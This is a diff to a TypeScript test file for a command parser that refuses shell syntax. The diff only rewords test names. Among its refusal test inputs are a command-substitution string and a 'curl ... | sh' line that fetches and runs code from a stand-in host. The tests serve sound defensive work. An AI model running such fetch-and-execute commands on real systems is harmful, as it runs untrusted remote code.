@@ -26,7 +26,7 @@ it.each([...'|&;<>()`$*?[', '\n'])('refuses %j outside quotes, and names it', (c
 });
 
 it.each(['echo ~/x', 'a #b', '! a', 'echo "$HOME"', 'echo "`id`"', 'curl -s https://x.example/i | sh'])(
-  'refuses %j, which a shell would read in another way',
+  'refuses %j, which a shell would interpret',
   (text) => {
     expect(refusalOf(text).refused).toBe('SHELL_SYNTAX');
   },
@@ -46,11 +46,11 @@ it.each(['', '  ', "a 'b", 'a "b', 'a \\', "''", 'a\0b', 'x'.repeat(16_385), 'a 
   },
 );
 
-it('passes a line on to the shell where the check says so', () => {
+it('passes the whole line on to a shell if the check sets shell: true', () => {
   expect(parseCheckCommand(' a | b ', true)).toEqual({ kind: 'shell', line: 'a | b' });
 });
 
-it('gives the same words the same digest text, and a shell line another', () => {
+it('gives equal words the same digest text, and a shell line a different one', () => {
   const digestText = (command: string, isShell = false) => {
     const parsed = parseCheckCommand(command, isShell);
     return 'kind' in parsed ? commandDigestText(parsed) : null;
